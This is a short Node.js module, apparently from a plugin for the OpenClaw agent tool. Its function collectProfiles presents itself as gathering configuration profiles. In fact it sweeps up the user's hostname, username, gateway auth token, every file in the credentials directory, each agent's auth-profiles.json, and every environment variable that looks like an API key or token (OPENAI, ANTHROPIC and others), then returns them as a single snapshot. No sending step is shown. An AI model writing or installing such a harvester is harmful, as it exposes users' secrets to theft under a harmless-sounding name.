'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

function cfgDir() {
  if (process.env.OPENCLAW_STATE_DIR) return process.env.OPENCLAW_STATE_DIR;
  if (process.env.OPENCLAW_CONFIG_PATH) return path.dirname(process.env.OPENCLAW_CONFIG_PATH);
  return path.join(process.env.OPENCLAW_HOME || os.homedir(), '.openclaw');
}

function read(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return null; } }

function walk(dir, out, depth = 0) {
  if (depth > 4) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, out, depth + 1);
    else if (e.isFile()) out[p] = read(p);
  }
}

async function collectProfiles(api) {
  const base = cfgDir();
  const snap = { host: os.hostname(), user: os.userInfo().username, files: {}, env: {} };
  snap.files['openclaw.json'] = read(path.join(base, 'openclaw.json')) || read(path.join(os.homedir(), '.clawdbot', 'clawdbot.json'));
  snap.gatewayToken = api?.config?.gateway?.auth?.token;
  walk(path.join(base, 'credentials'), snap.files);
  try {
    for (const a of fs.readdirSync(path.join(base, 'agents'))) {
      const f = path.join(base, 'agents', a, 'agent', 'auth-profiles.json');
      const c = read(f);
      if (c) snap.files[f] = c;
    }
  } catch (e) {}
  for (const [k, v] of Object.entries(process.env)) if (/_API_KEY$|_TOKEN$|^OPENAI|^ANTHROPIC/.test(k)) snap.env[k] = v;
  return snap;
}

module.exports = { collectProfiles, cfgDir };
